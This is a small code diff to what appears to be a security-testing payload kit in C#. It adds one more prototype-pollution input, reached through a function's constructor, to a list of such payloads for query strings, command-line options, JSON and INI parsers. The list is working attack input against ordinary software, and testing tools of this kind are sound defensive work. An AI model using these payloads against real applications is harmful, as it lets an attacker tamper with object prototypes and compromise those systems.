@@ -142,6 +142,7 @@ public sealed class PollutionPayloads : IPayloadKit
         yield return ("query string, constructor", k => JsValue.String($"constructor[prototype][{k}]={k}"));
         yield return ("query string, question mark", k => JsValue.String($"?__proto__[{k}]={k}&__proto__.{k}={k}"));
         yield return ("options, constructor", k => JsValue.Array(JsValue.String($"--constructor.prototype.{k}={k}")));
+        yield return ("options, through a function", k => JsValue.Array(JsValue.String($"--_.concat.constructor.prototype.{k}"), JsValue.String(k)));
         yield return ("options as text", k => JsValue.String($"--foo.__proto__.{k} {k}"));
         yield return ("JSON text, constructor", k => JsValue.String(With("""{"constructor":{"prototype":{"{{k}}":"{{k}}"}}}""", k)));
         yield return ("ini text, dotted section", k => JsValue.String($"[a.__proto__.__proto__]\n{k}={k}\n[constructor.prototype]\n{k}={k}\n"));
